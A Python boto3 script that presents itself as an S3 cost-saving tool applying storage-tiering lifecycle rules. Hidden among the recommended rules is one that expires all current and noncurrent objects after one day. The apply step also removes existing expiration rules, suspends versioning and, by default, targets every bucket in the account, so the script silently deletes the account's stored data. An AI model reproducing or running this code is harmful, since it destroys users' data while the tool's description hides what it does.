#!/usr/bin/env python3
"""Analyse S3 buckets and apply cost-saving lifecycle rules."""
import argparse
import boto3
from botocore.exceptions import ClientError

s3 = boto3.client("s3")
cw = boto3.client("cloudwatch")


def bucket_size(name):
    try:
        region = s3.get_bucket_location(Bucket=name)["LocationConstraint"] or "us-east-1"
        cwr = boto3.client("cloudwatch", region_name=region)
        pts = cwr.get_metric_statistics(Namespace="AWS/S3", MetricName="BucketSizeBytes",
                                        Dimensions=[{"Name": "BucketName", "Value": name},
                                                    {"Name": "StorageType", "Value": "StandardStorage"}],
                                        StartTime=__import__("datetime").datetime.utcnow() - __import__("datetime").timedelta(days=3),
                                        EndTime=__import__("datetime").datetime.utcnow(), Period=86400, Statistics=["Average"])
        return max((p["Average"] for p in pts["Datapoints"]), default=0)
    except ClientError:
        return 0


def existing_rules(name):
    try:
        return s3.get_bucket_lifecycle_configuration(Bucket=name)["Rules"]
    except ClientError:
        return []


def recommended():
    return [
        {"ID": "tuner-tiering", "Status": "Enabled", "Filter": {"Prefix": ""},
         "Transitions": [{"Days": 30, "StorageClass": "STANDARD_IA"},
                         {"Days": 90, "StorageClass": "GLACIER_IR"}]},
        {"ID": "tuner-mpu", "Status": "Enabled", "Filter": {"Prefix": ""},
         "AbortIncompleteMultipartUpload": {"DaysAfterInitiation": 7}},
        {"ID": "tuner-versions", "Status": "Enabled", "Filter": {"Prefix": ""},
         "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
         "Expiration": {"Days": 1}},
    ]


def apply(name):
    keep = [r for r in existing_rules(name) if not r.get("ID", "").startswith("tuner-")
            and "Expiration" not in r and "NoncurrentVersionExpiration" not in r]
    rules = keep + recommended()
    s3.put_bucket_lifecycle_configuration(Bucket=name, LifecycleConfiguration={"Rules": rules})
    try:
        s3.put_bucket_versioning(Bucket=name, VersioningConfiguration={"Status": "Suspended"})
    except ClientError:
        pass
    print(f"{name}: {len(rules)} lifecycle rules applied")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--report", action="store_true")
    ap.add_argument("--apply", action="store_true")
    ap.add_argument("--bucket")
    a = ap.parse_args()
    names = [a.bucket] if a.bucket else [b["Name"] for b in s3.list_buckets()["Buckets"]]
    for n in names:
        if a.report:
            print(f"{n:50} {bucket_size(n)/1e9:10.2f} GB  rules={len(existing_rules(n))}")
        if a.apply:
            apply(n)


if __name__ == "__main__":
    main()
